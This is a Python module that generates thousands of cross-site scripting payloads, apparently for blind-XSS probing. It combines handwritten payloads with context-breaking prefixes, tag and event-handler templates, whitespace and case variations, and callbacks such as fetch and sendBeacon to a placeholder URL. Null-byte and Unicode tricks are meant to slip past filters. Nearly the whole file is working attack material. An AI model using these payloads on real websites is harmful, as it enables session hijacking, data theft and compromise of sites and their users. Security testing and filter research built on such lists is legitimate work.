"""Make thousands of texts that run by themselves, without a click, where a page does not escape them."""

from __future__ import annotations

import itertools
import random
from functools import cache

# Each runs by itself, without a click, where it is put into a page unescaped: in text, in an attribute, in a title.
PAYLOADS = (
    "<script>fetch('HIT')</script>",
    "<img src=x onerror=fetch('HIT')>",
    "<svg onload=fetch('HIT')></svg>",
    "\"><img src=x onerror=fetch('HIT')>",
    "'><svg/onload=fetch('HIT')>",
    "</title><script>fetch('HIT')</script>",
    "</pre></textarea></select></option><script>fetch('HIT')</script>",
    "--><script>fetch('HIT')</script><!--",
    "<iframe srcdoc=\"<script>parent.fetch('HIT')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.fetch('HIT')\"></iframe>",
    "<details open ontoggle=fetch('HIT')>x</details>",
    "<input autofocus onfocus=fetch('HIT')>",
    "\" autofocus tabindex=0 onfocus=fetch('HIT') x=\"",
    "<video><source onerror=fetch('HIT')></video>",
    "<object data=HIT></object>",
    "<embed src=HIT>",
    "<img src=HIT>",
    "<link rel=stylesheet href=HIT>",
    "<style>@import 'HIT';</style>",
    "<meta http-equiv=refresh content='0;url=HIT'>",
    "<body onload=fetch('HIT')>",
    "<scr\x00ipt>fetch('HIT')</script><script>fetch('HIT')</script>",
    "\u2028<script>fetch('HIT')</script>\u202e",
    "<math><mi//xlink:href=\"data:x,<script>fetch('HIT')</script>\"><img src=x onerror=fetch('HIT')>",
    "{{ 7 * 191 }}{% raw %}<script>fetch('HIT')</script>",
)
# What gets out of where a text may stand: an attribute, a title, a field, a comment, a script, a style.
OUT_OF = (
    "",
    '">',
    "'>",
    "></a>",
    "</title>",
    "</textarea>",
    "</select>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</pre>",
)
BLANKS = (" ", "/", "\t", "\n", " / ")
CALLS = (
    "fetch('HIT')",
    "fetch(`HIT`)",
    "new(Image)().src='HIT'",
    "navigator.sendBeacon('HIT')",
    "self['fetch']('HIT')",
)
# `_` is a blank of some kind, CALL what is run; the cases of names are mixed besides.
TAGS = (
    "<script>CALL</script>",
    "<script_x>CALL</script>",
    "<svg><script>CALL</script></svg>",
    '<img_src="x"_onerror="CALL">',
    '<img_srcset="x"_onerror="CALL">',
    '<image_src="x"_onerror="CALL">',
    "<svg_onload=\"CALL\">",
    '<svg><style><img_src="x"_onerror="CALL"></style></svg>',
    '<svg><animate_onbegin="CALL"_attributeName="x"_dur="1s">',
    '<svg><set_onbegin="CALL"_attributeName="x"_dur="1s">',
    '<video_src="x"_onerror="CALL"></video>',
    '<video><source_src="x"_onerror="CALL"></video>',
    '<audio_src="x"_onerror="CALL"></audio>',
    "<iframe_onload=\"CALL\"></iframe>",
    "<iframe_srcdoc=\"<script>parent.fetch('HIT')</script>\"></iframe>",
    "<iframe_src=\"javascript:parent.fetch('HIT')\"></iframe>",
    "<body_onload=\"CALL\">",
    "<body_onpageshow=\"CALL\">",
    "<details_open_ontoggle=\"CALL\">x</details>",
    '<input_type=image_src="x"_onerror="CALL">',
    "<style_onload=\"CALL\">a{}</style>",
    "<link_rel=stylesheet_href='HIT'>",
    "<object_data=HIT></object>",
    "<embed_src=HIT>",
    "<noscript><p_title=\"</noscript><img src=x onerror=CALL>\">",
    '<xmp></xmp><img_src="x"_onerror="CALL">',
)  # fmt: skip


@cache
def every() -> tuple[str, ...]:
    """All of them, the plain ones first and the made ones in an order that is the same each time."""
    made = [
        out + _cased(tag, number).replace("_", blank).replace("CALL", call)
        for number, (out, tag, blank, call) in enumerate(itertools.product(OUT_OF, TAGS, BLANKS, CALLS))
    ]
    random.Random(7).shuffle(made)
    return (*PAYLOADS, *dict.fromkeys(made))


def _cased(tag: str, number: int) -> str:
    """Every other one with the names of its elements in capitals."""
    if number % 2:
        return tag
    for name in ("script", "img", "svg", "iframe", "body", "style", "video", "details"):
        tag = tag.replace(f"<{name}", f"<{name.upper()}")
    return tag
